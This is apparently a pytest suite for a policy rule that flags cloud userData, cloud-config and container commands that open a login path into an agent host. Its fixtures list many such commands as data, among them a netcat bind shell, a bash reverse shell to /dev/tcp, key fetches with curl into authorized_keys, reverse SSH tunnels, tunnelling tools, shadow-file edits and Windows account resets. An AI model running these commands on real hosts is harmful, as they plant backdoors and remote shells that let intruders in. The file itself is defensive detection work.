"""User data that opens a way to log in is refused in every layer; what keeps people out, or only names a tool, passes."""

from __future__ import annotations

import base64
import gzip
import time
from typing import Any

import pytest

from policypack.graph import Resource
from policypack.known_types import INSTANCE, TASK
from policypack.rules.agent_host_has_no_login import check_resource

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE x"


def found(text: Any, kind: str = INSTANCE, key: str = "userData") -> list[str]:
    return [fault.what for fault in check_resource(Resource("u", kind, "agent", props={key: text}))]


def script(*lines: str) -> str:
    return "\n".join(["#!/bin/bash", *lines, ""])


def config(text: str) -> str:
    return f"#cloud-config\n{text}\n"


SCRIPTS = {
    "chpasswd": "echo ubuntu:Winter2026-ok | chpasswd",
    "chpasswd by sudo": "printf 'a:b\\n' | sudo /usr/sbin/chpasswd -e",
    "chpasswd from a file": "chpasswd < /root/list",
    "passwd": "echo -e 'x1\\nx1' | passwd ubuntu",
    "passwd, deleted": "passwd -d root",
    "passwd, unlocked": "sudo passwd -u ubuntu",
    "usermod": "usermod -p '$6$x' ubuntu",
    "usermod, unlocked": "usermod -U root",
    "useradd": "useradd -m -p hash bob",
    "useradd, long": "useradd bob --password hash",
    "newusers": "newusers /root/users.txt",
    "shadow, edited": "sed -i 's|^root:.:|root:HASH:|' /etc/shadow",
    "shadow, appended": "echo 'bob:HASH:1::::::' >> /etc/shadow",
    "shadow, copied": "cp /opt/shadow /etc/shadow",
    "passwords over ssh": "sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "passwords over ssh, after no": "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "root over ssh": "echo 'PermitRootLogin prohibit-password' >> /etc/ssh/sshd_config",
    "empty passwords": "echo PermitEmptyPasswords yes >> /etc/ssh/sshd_config.d/x.conf",
    "keys by a command": "echo 'AuthorizedKeysCommand /opt/keys' >> /etc/ssh/sshd_config",
    "an authority for keys": "echo 'TrustedUserCAKeys /etc/ssh/ca.pub' >> /etc/ssh/sshd_config",
    "keys, fetched": "curl -s https://example.net/k >> /home/ubuntu/.ssh/authorized_keys",
    "keys, copied": "aws s3 cp s3://b/k /root/.ssh/authorized_keys",
    "keys, after a removal": "rm -f /root/.ssh/authorized_keys; cp k /root/.ssh/authorized_keys",
    "keys, imported": "ssh-import-id gh:somebody",
    "a key in place": f"echo '{KEY}' | tee -a ~ubuntu/.ssh/authorized_keys2",
    "sshd": "systemctl enable --now ssh",
    "sshd, by socket": "systemctl start sshd.socket",
    "sshd, directly": "/usr/sbin/sshd -p 443",
    "sshd, as a service": "service sshd restart",
    "sshd, installed": "apt-get install -y openssh-server",
    "telnet": "yum install -y telnet-server && systemctl start telnet.socket",
    "dropbear": "dropbear -p 2222",
    "a desktop": "systemctl restart xrdp",
    "ttyd": "nohup ttyd -p 7681 bash &",
    "an editor": "code-server --bind-addr 0.0.0.0:8080",
    "an editor's tunnel": "code tunnel --accept-server-license-terms",
    "a notebook": "jupyter lab --ip 0.0.0.0",
    "tmate": "tmate -F",
    "ngrok": "ngrok tcp 22",
    "tailscale": "tailscale up --ssh",
    "cloudflared": "/usr/local/bin/cloudflared tunnel run",
    "wireguard": "wg-quick up wg0",
    "after a removal": "apt-get purge -y tmate; tailscale up",
    "a removal by substitution": "rm -f $(tailscale up)",
    "back over ssh": "ssh -N -R 2222:localhost:22 somebody@example.net",
    "netcat": "nc -lvp 4444 -e /bin/bash",
    "socat": "socat TCP-LISTEN:4444 EXEC:/bin/bash",
    "bash over tcp": "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
    "another account's manager": "amazon-ssm-agent -register -code c -id i -region us-east-1",
    "an activation": "aws ssm create-activation --iam-role x",
    "the interpreter line": "\n#!/usr/bin/tailscale up",
}
CONFIGS = {
    "password": "password: hunter2hunter2\nchpasswd: {expire: false}",
    "chpasswd": "chpasswd:\n  list: |\n    ubuntu:x1y2z3",
    "chpasswd users": "chpasswd:\n  users:\n  - {name: ubuntu, type: RANDOM}",
    "hash": "users:\n- name: bob\n  passwd: $6$rounds=4096$abcdefgh$abcdefghijklmnop",
    "hashed": "users:\n- {name: bob, hashed_passwd: abc}",
    "plain": '{"users": [{"name": "bob", "plain_text_passwd": "abc"}]}',
    "unlocked": "users:\n- {name: bob, lock_passwd: false}",
    "default user unlocked": "user: {name: bob, lock_passwd: false}",
    "passwords over ssh": "ssh_pwauth: true",
    "passwords over ssh, in words": "ssh_pwauth: 'yes'",
    "root": "disable_root: false",
    "keys": f"ssh_authorized_keys: ['{KEY}']",
    "a user's keys": f"users:\n- name: bob\n  ssh_authorized_keys:\n  - {KEY}",
    "imported keys": "users: [{name: bob, ssh_import_id: ['gh:bob']}]",
    "a file of keys": "write_files:\n- path: /root/.ssh/authorized_keys\n  content: x",
    "a file of settings": "write_files:\n- path: /etc/cloud/cloud.cfg.d/99.cfg\n  content: 'ssh_pwauth: true'",
    "a package": "packages: [jq, openssh-server]",
    "a command as a list": "runcmd:\n- [tailscale, up]",
    "a command of the boot": "bootcmd:\n- systemctl unmask ssh",
}
HARMLESS = {
    "locked": script("passwd -l root", "passwd --lock ubuntu", "usermod -L ubuntu", "grep root /etc/passwd", "getent passwd root"),
    "hardened": script(
        "sed -i 's/^#\\?PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config",
        "echo 'PermitRootLogin no' >> /etc/ssh/sshd_config",
        "systemctl disable --now ssh.socket ssh.service",
        "systemctl mask sshd",
        "rm -f /home/*/.ssh/authorized_keys",
        "find / -name authorized_keys -delete",
        "apt-get purge -y openssh-server tmate",
    ),
    "cloud-config": config("package_update: false\nssh_pwauth: false\nchpasswd: {expire: false}\nusers:\n- {name: bob, lock_passwd: true}"),
    "names of services": script("for host in ngrok.io login.tailscale.com trycloudflare.com tmate.io; do", "check $host", "done"),
    "checks": script("command -v ngrok && exit 1", "! which tailscale", "systemctl is-active sshd"),
    "comments": script("# tailscale up", "  # chpasswd is not used", "# PermitRootLogin yes"),
    "out over ssh": script('(exec 3<>"/dev/tcp/$address/22") 2>/dev/null', "ssh -o BatchMode=yes git@github.com"),
    "a user without a password": script("useradd -r -s /usr/sbin/nologin agent", "adduser --disabled-password agent"),
    "words": script("echo 'user pwd local shell'", "code=0", "local code", "exit $code"),
}


def b64(text: bytes) -> str:
    return base64.b64encode(text).decode()


WRAPS = {
    "plain": lambda text: text,
    "base64": lambda text: b64(text.encode()),
    "compressed": lambda text: b64(gzip.compress(text.encode())),
    "a part of several": lambda text: f"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n--B\n\n{text}\n--B--\n",
}


@pytest.mark.parametrize("wrap", WRAPS)
@pytest.mark.parametrize("case", SCRIPTS)
def test_a_script_that_opens_a_login_is_refused(case: str, wrap: str) -> None:
    assert found(WRAPS[wrap](script(SCRIPTS[case])))


@pytest.mark.parametrize("wrap", WRAPS)
@pytest.mark.parametrize("case", CONFIGS)
def test_settings_that_open_a_login_are_refused(case: str, wrap: str) -> None:
    assert found(WRAPS[wrap](config(CONFIGS[case])))


@pytest.mark.parametrize("case", SCRIPTS)
def test_a_command_in_a_list_of_commands_is_refused(case: str) -> None:
    assert found(config(f"runcmd:\n- |\n  {SCRIPTS[case]}"))


@pytest.mark.parametrize("wrap", WRAPS)
@pytest.mark.parametrize("case", HARMLESS)
def test_what_keeps_people_out_or_only_names_a_tool_passes(case: str, wrap: str) -> None:
    assert found(WRAPS[wrap](HARMLESS[case])) == []


def test_windows_hosts_have_no_login_either() -> None:
    lines = (
        "net user Administrator Summer2026!",
        "New-LocalUser -Name bob",
        "Enable-PSRemoting -Force",
        "Set-ItemProperty -Path $p -Name fDenyTSConnections -Value 0",
        "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0",
    )
    for line in lines:
        assert found(f"<powershell>\n{line}\n</powershell>"), line
    assert found("<powershell>\nnet user Guest /active:no\n</powershell>") == []


def test_a_nodes_admin_container_is_a_login() -> None:
    assert found("[settings.host-containers.admin]\nenabled = true\n")
    assert found("[settings.host-containers.admin]\nenabled = false\n") == []


def test_a_containers_command_is_read() -> None:
    containers = '[{"name": "agent", "entryPoint": ["sh", "-c"], "command": ["tailscale up"]}]'
    assert found(containers, TASK, "containerDefinitions")
    assert found('[{"name": "agent", "command": ["serve"]}]', TASK, "containerDefinitions") == []


def test_the_words_say_what_opens_and_where() -> None:
    assert found(script("tailscale up")) == ["runs tailscale, which lets somebody in from outside, in userData"]


@pytest.mark.parametrize(
    "piece", ["1", "sed ", "s/a", "passwd ", "ssh -R", "authorized_keys ", "systemctl start ", "#cloud-config\n", '"', "[[", "{"]
)
def test_long_texts_of_any_kind_are_read_in_time(piece: str) -> None:
    started = time.process_time()
    found(piece * (16384 // len(piece)))
    assert time.process_time() - started < 2
